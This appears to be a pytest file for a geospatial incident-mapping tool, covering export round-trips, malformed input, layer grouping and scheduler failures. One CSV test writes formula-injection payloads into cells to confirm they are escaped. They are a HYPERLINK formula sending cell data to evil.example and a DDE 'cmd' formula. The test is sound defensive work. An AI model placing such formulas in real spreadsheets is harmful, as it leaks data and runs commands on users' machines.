"""Tables: every export format drawn again by `incidents map`; foreign tables, bad cells and long spans."""

from __future__ import annotations

import json
import subprocess
import sys
import warnings
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import Point

import geo
import maps
from geo.errors import TableError
from geo.table import FORMATS, footprint_column, read_table, write_table
from maps.draw import MAX_PERIOD_LAYERS
from maps.layers import IncidentLayers

ROOT = Path(__file__).parents[1]
REPORTS = ROOT / "examples" / "reports"


def cli(*args, timeout=600):
    return subprocess.run([sys.executable, "-m", "geo.cli", *map(str, args)], capture_output=True, text=True,
                          timeout=timeout)


@pytest.fixture(scope="module")
def incidents():
    table = geo.extract(REPORTS)
    assert table.footprint.notna().sum() >= 3
    return table


def payload(m) -> dict:
    return next(c for c in m._children.values() if isinstance(c, IncidentLayers)).payload


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_format_maps_again_with_its_areas(incidents, tmp_path, fmt):
    path = tmp_path / f"incidents.{fmt}"
    made = cli("extract", REPORTS, "-o", path, "-q")
    assert made.returncode == 0, made.stderr
    back = read_table(path)
    assert len(back) == len(incidents)
    assert back.footprint.notna().sum() == incidents.footprint.notna().sum()
    assert back.footprint.geom_type.dropna().isin(["Polygon", "MultiPolygon"]).all()
    areas = payload(maps.incident_map(back))["footprints"]
    assert len(areas) == len(payload(maps.incident_map(incidents))["footprints"]) > 0
    drawn = cli("map", path, "-o", tmp_path / "map.html", "--static", tmp_path / "map.png", "-q")
    assert drawn.returncode == 0, drawn.stderr
    assert "Traceback" not in drawn.stderr and (tmp_path / "map.png").stat().st_size > 10_000


def test_a_table_that_is_not_ours_is_an_error_naming_the_missing_columns(tmp_path):
    other = tmp_path / "other.geojson"
    gpd.GeoDataFrame({"name": ["Huanta, bombing on May 3, 2009"], "value": [1]}, geometry=[Point(-74.2, -12.9)],
                     crs=4326).to_file(other, driver="GeoJSON")
    text = tmp_path / "notes.parquet"
    text.write_text("An ambush in Huanta on May 3, 2009 killed four soldiers.\n")
    with pytest.raises(TableError, match="missing columns event_date"):
        read_table(other)
    for path, says in ((other, "missing columns event_date"), (text, "not a readable parquet table")):
        for command in ("map", "report"):
            run = cli(command, path, "-o", tmp_path / "out.html", "-q")
            assert run.returncode == 2, run.stderr
            assert str(path) in run.stderr and says in run.stderr and "Traceback" not in run.stderr
    assert not (tmp_path / "out.html").exists()


def test_csv_cells_cannot_be_formulas_but_numbers_stay_numbers(incidents, tmp_path):
    table = incidents.copy()
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                "@SUM(A1)", "\t=1", "'=quoted already"]
    for i, value in enumerate(payloads[:len(table)]):
        table.loc[i, "source"] = value
    table.loc[0, "doc_ids"] = "=cmd|' /C calc'!A0"
    path = tmp_path / "t.csv"
    write_table(table, path)
    rows = list(__import__("csv").DictReader(path.open(encoding="utf-8")))
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or col in ("latitude", "longitude"), (col, cell)
    assert rows[0]["source"].startswith("'=HYPERLINK") and rows[0]["doc_ids"] == "'=cmd|' /C calc'!A0"
    assert float(rows[0]["latitude"]) < 0 and rows[0]["longitude"].startswith("-")
    back = read_table(path)
    assert list(back.source[:len(payloads)]) == list(table.source[:len(payloads)])
    assert back.doc_ids[0] == table.doc_ids[0]


def test_impossible_coordinates_are_dropped_by_name_and_the_rest_drawn(incidents, tmp_path):
    table = incidents.copy()
    table.loc[0, "latitude"] = np.inf
    table.loc[1, "latitude"] = 1e300
    bad = list(table.incident_id[:2])
    path = tmp_path / "t.csv"
    write_table(table, path)
    run = cli("map", path, "-o", tmp_path / "m.html", "--static", tmp_path / "m.png", "-q")
    assert run.returncode == 0, run.stderr
    assert "2 incidents dropped" in run.stderr and all(i in run.stderr for i in bad)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        m = maps.incident_map(table)
    assert any("2 incidents dropped" in str(w.message) for w in caught)
    drawn = {r["id"] for r in payload(m)["incidents"]}
    assert drawn and not drawn & set(bad)
    assert all(np.isfinite(v) for r in payload(m)["incidents"] for v in (r["lat"], r["lon"]))


def test_numbers_in_text_columns_are_text_in_popups(incidents):
    table = incidents.copy()
    table["incident_type"] = 7
    table["evidence"] = 123
    records = payload(maps.incident_map(table))["incidents"]
    assert {r["kind"] for r in records} == {"7"} and {r["ev"] for r in records} == {"123"}


def test_thousands_of_days_are_grouped_into_fewer_layers(incidents):
    many = pd.concat([incidents] * 500, ignore_index=True)
    many["event_date"] = pd.date_range("2000-01-01", periods=len(many), freq="D")
    many["incident_id"] = [f"PE-{i}" for i in range(len(many))]
    with pytest.warns(UserWarning, match=r"one layer a day would be 3,500 layers.*drawn by month"):
        m = maps.incident_map(many, period="day")
    groups = [c for c in m._children.values() if c.__class__.__name__ == "FeatureGroup"]
    assert 100 < len(groups) <= MAX_PERIOD_LAYERS


def test_the_previous_folder_of_parts_survives_an_unreachable_scheduler(tmp_path):
    out = tmp_path / "parts"
    out.mkdir()
    (out / "part-00000.parquet").write_bytes(b"previous")
    (out / "_summary.json").write_text(json.dumps({"partitions": 1}))
    run = cli("extract", REPORTS, "--engine", "dask", "--scheduler", "tcp://127.0.0.1:1", "--format", "parquet-dataset",
              "-o", out, timeout=60)
    assert run.returncode == 2
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and "--scheduler tcp://127.0.0.1:1" in lines[0], run.stderr
    assert (out / "part-00000.parquet").read_bytes() == b"previous" and (out / "_summary.json").exists()
    for args, says in ((["--engine", "dask", "--scheduler", "not a url"], "--scheduler"),
                       (["--scheduler", "tcp://127.0.0.1:8786"], "--scheduler needs --engine dask")):
        run = cli("extract", REPORTS, "-o", tmp_path / "x", *args)
        assert run.returncode == 2 and says in run.stderr and "Traceback" not in run.stderr


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "csv"])
def test_text_tables_hold_each_footprint_and_the_evidence_once_and_read_back_whole(incidents, tmp_path, fmt):
    twice = pd.concat([incidents, incidents], ignore_index=True)  # each footprint id named by several rows
    path = tmp_path / f"t.{fmt}"
    write_table(twice, path)
    raw = pd.read_csv(path) if fmt == "csv" else gpd.read_file(path)
    if fmt == "csv":  # a spreadsheet's reader sees the evidence in every row
        assert list(raw.evidence) == list(twice.evidence)
    else:
        assert raw.evidence.isna().all() and raw.notes.notna().all()  # the notes are the evidence
    shapes = footprint_column(twice, "simplified")
    held = raw.footprint.dropna()
    assert len(held) == twice.footprint_id[shapes.notna()].nunique() < shapes.notna().sum()
    back = read_table(path)
    assert list(back.evidence) == list(twice.evidence) and list(back.notes) == list(twice.notes)
    assert list(back.footprint_id.fillna("")) == list(twice.footprint_id.fillna(""))
    for read, written in zip(back.footprint, shapes):
        assert read.equals_exact(written, 1e-6) if written is not None else read is None
